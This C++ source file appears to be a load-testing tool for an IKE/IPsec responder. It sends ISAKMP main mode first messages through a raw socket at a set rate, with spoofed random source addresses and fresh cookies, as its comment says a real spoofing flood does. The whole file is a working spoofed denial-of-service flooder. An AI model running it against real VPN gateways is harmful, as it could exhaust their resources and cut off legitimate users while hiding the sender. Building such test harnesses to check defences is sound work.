// Spoofed main mode first messages (MM1) at a given rate, for the admission test.
//
//   mm1_flood DST RATE SECONDS SRC_PREFIX FIRST LAST
//
// Every packet is a fresh MM1 (a new random initiator cookie) from a random source address
// SRC_PREFIX.FIRST..LAST and a random source port, offering what the seed hub accepts
// (3des/md5/rsasig/modp1024), sent through a raw socket (IP_HDRINCL): the sender never
// sees an answer, as a real spoofing flood. Prints what it sent and the rate it reached
// when it ends (after SECONDS, or on SIGTERM/SIGINT).
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <chrono>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <random>
#include <string>
#include <vector>

namespace {

volatile std::sig_atomic_t stop = 0;
void on_signal(int) {
  stop = 1;
}

void put16(std::vector<std::uint8_t>& v, unsigned x) {
  v.push_back(static_cast<std::uint8_t>(x >> 8));
  v.push_back(static_cast<std::uint8_t>(x));
}
void put32(std::vector<std::uint8_t>& v, std::uint32_t x) {
  put16(v, x >> 16);
  put16(v, x & 0xffff);
}

/// IP header (20) + UDP header (8) + ISAKMP MM1 (header, SA with one IKE proposal).
std::vector<std::uint8_t> template_packet(in_addr dst) {
  std::vector<std::uint8_t> attrs;
  for (auto [type, value] : std::array<std::pair<unsigned, unsigned>, 6>{
           {{1, 5}, {2, 1}, {3, 3}, {4, 2}, {11, 1}, {12, 28800}}}) {
    put16(attrs, 0x8000 | type);
    put16(attrs, value);
  }
  std::vector<std::uint8_t> transform{0, 0};
  put16(transform, 8 + attrs.size());
  transform.insert(transform.end(), {1, 1, 0, 0});
  transform.insert(transform.end(), attrs.begin(), attrs.end());
  std::vector<std::uint8_t> proposal{0, 0};
  put16(proposal, 8 + transform.size());
  proposal.insert(proposal.end(), {1, 1, 0, 1});
  proposal.insert(proposal.end(), transform.begin(), transform.end());
  std::vector<std::uint8_t> sa{0, 0};
  put16(sa, 12 + proposal.size());
  put32(sa, 1); // DOI IPsec
  put32(sa, 1); // SIT_IDENTITY_ONLY
  sa.insert(sa.end(), proposal.begin(), proposal.end());
  std::vector<std::uint8_t> isakmp(16, 0); // cookies: filled per packet / zero
  isakmp.insert(isakmp.end(), {1, 0x10, 2, 0});
  put32(isakmp, 0);
  put32(isakmp, 28 + sa.size());
  isakmp.insert(isakmp.end(), sa.begin(), sa.end());
  std::vector<std::uint8_t> p{0x45, 0};
  put16(p, 28 + isakmp.size());
  p.insert(p.end(), {0, 0, 0, 0, 64, 17, 0, 0, 0, 0, 0, 0}); // src filled per packet
  auto* d = reinterpret_cast<const std::uint8_t*>(&dst.s_addr);
  p.insert(p.end(), d, d + 4);
  put16(p, 0);   // source port: per packet
  put16(p, 500); // destination port
  put16(p, 8 + isakmp.size());
  put16(p, 0); // no UDP checksum (IPv4)
  p.insert(p.end(), isakmp.begin(), isakmp.end());
  return p;
}

} // namespace

int main(int argc, char** argv) {
  if (argc != 7) {
    std::fprintf(stderr, "usage: mm1_flood DST RATE SECONDS SRC_PREFIX FIRST LAST\n");
    return 2;
  }
  in_addr dst{};
  if (inet_pton(AF_INET, argv[1], &dst) != 1) {
    std::fprintf(stderr, "mm1_flood: bad address %s\n", argv[1]);
    return 2;
  }
  double rate = std::stod(argv[2]), seconds = std::stod(argv[3]);
  std::string prefix = argv[4];
  int first = std::stoi(argv[5]), last = std::stoi(argv[6]);
  std::vector<std::uint32_t> sources;
  for (int i = first; i <= last; ++i) {
    in_addr a{};
    if (inet_pton(AF_INET, (prefix + "." + std::to_string(i)).c_str(), &a) == 1)
      sources.push_back(a.s_addr);
  }
  if (sources.empty() || rate <= 0) {
    std::fprintf(stderr, "mm1_flood: no source addresses or no rate\n");
    return 2;
  }
  int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (s < 0) {
    std::perror("mm1_flood: raw socket");
    return 1;
  }
  int buf = 1 << 22;
  setsockopt(s, SOL_SOCKET, SO_SNDBUF, &buf, sizeof buf);
  std::signal(SIGTERM, on_signal);
  std::signal(SIGINT, on_signal);
  auto pkt = template_packet(dst);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr = dst;
  std::mt19937_64 rng{std::random_device{}()};
  using clock = std::chrono::steady_clock;
  auto start = clock::now();
  std::uint64_t sent = 0, errors = 0;
  while (stop == 0) {
    std::chrono::duration<double> el = clock::now() - start;
    if (el.count() >= seconds)
      break;
    auto due = static_cast<std::uint64_t>(el.count() * rate);
    if (sent + errors >= due) {
      usleep(1000);
      continue;
    }
    for (auto n = due - sent - errors; n > 0 && stop == 0; --n) {
      std::uint64_t r = rng();
      std::uint32_t src = sources[r % sources.size()];
      std::uint16_t port = static_cast<std::uint16_t>(1024 + (r >> 32) % 64000);
      std::memcpy(&pkt[12], &src, 4);
      pkt[20] = static_cast<std::uint8_t>(port >> 8);
      pkt[21] = static_cast<std::uint8_t>(port);
      std::uint64_t cookie = rng() | 1;
      std::memcpy(&pkt[28], &cookie, 8);
      if (sendto(s, pkt.data(), pkt.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to) < 0)
        ++errors;
      else
        ++sent;
    }
  }
  std::chrono::duration<double> took = clock::now() - start;
  std::printf("flood: %llu spoofed MM1s in %.1f s (%.0f/s), %llu send errors\n",
              static_cast<unsigned long long>(sent), took.count(), sent / took.count(),
              static_cast<unsigned long long>(errors));
  close(s);
  return 0;
}
